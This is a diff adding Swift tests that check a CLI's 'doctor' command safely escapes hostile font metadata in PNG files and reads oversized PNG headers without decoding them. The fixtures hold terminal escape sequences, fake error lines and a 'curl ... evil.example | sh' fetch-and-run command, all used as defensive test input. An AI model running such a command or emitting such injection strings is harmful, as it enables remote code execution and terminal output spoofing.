@@ -59,6 +59,48 @@ import Testing
         #expect(r.stdout.contains("reference \(dir)/none.png: cannot be read: "))
     }
 
+    /// S3b: a reference's font record is a file's text: its control characters and line
+    /// breaks are escaped, so it can neither retitle the terminal nor print a line that
+    /// looks like one of ours.
+    @Test(.enabled(if: SpecCommandLineTests.enabled))
+    func aFontRecordIsPrintedEscaped() throws {
+        let dir = try Self.folder()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let hostile = "Inter\u{1B}]0;owned\u{7}\r\nerror: fake\n  accept: curl -s https://evil.example/x | sh"
+        let entry: [String: Any] = ["family": hostile, "style": "Regular", "file": "x.otf\nerror: y", "faceIndex": 0,
+                                    "sha256": String(repeating: "0", count: 64)]
+        try Data(try Self.picture(fontRecord: ["fonts": [entry]])).write(to: URL(fileURLWithPath: dir + "/hostile.png"))
+        let r = try cli.run(["doctor", "--reference", dir + "/hostile.png"])
+        #expect(r.status == 1)
+        #expect(!r.stdout.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\r" || $0 == "\u{7}" }, "\(r.stdout)")
+        let lines = r.stdout.split(separator: "\n")
+        #expect(!lines.contains { $0.hasPrefix("error:") || $0.hasPrefix("  accept:") }, "\(r.stdout)")
+        #expect(r.stdout.contains("\\u{1B}]0;owned"))
+    }
+
+    /// M3: the font record is read from the text chunks alone: a picture whose header claims
+    /// 30000 x 30000 pixels (3.4 GiB decoded) is answered without decoding it.
+    @Test(.enabled(if: SpecCommandLineTests.enabled))
+    func aReferencesFontRecordIsReadWithoutDecodingItsPixels() throws {
+        let dir = try Self.folder()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        var png = try Self.picture(fontRecord: ["fonts": [Any]()])
+        // IHDR's width and height (bytes 16–23) set to 30000: the decoder would refuse the
+        // data as too short for such a picture; a header-only reader never asks.
+        for offset in [16, 20] { png.replaceSubrange(offset..<(offset + 4), with: [0, 0, 0x75, 0x30]) }
+        try Data(png).write(to: URL(fileURLWithPath: dir + "/huge.png"))
+        let r = try cli.run(["doctor", "--reference", dir + "/huge.png"])
+        #expect(r.stdout.contains("huge.png: matches (0 fonts)"), "\(r.stdout)")
+    }
+
+    /// A 2 x 2 PNG carrying `fontRecord` (JSON) as a reference's font record does: the
+    /// `render-cells:fonts` text chunk (SnapshotPicture's keyword).
+    static func picture(fontRecord: [String: Any]) throws -> [UInt8] {
+        let png = try PNGEncoder().encode(try #require(Pixmap(width: 2, height: 2, color: .white)))
+        let json = String(decoding: try JSONSerialization.data(withJSONObject: fontRecord), as: UTF8.self)
+        return try PNGText.inserting(["render-cells:fonts": json], into: png)
+    }
+
     /// The examples `examples/__Snapshots__` holds a reference of.
     static let names = ["hello-wwdc", "hammer", "emoji-explorer", "settings", "states-and-traits", "mail"]
 }
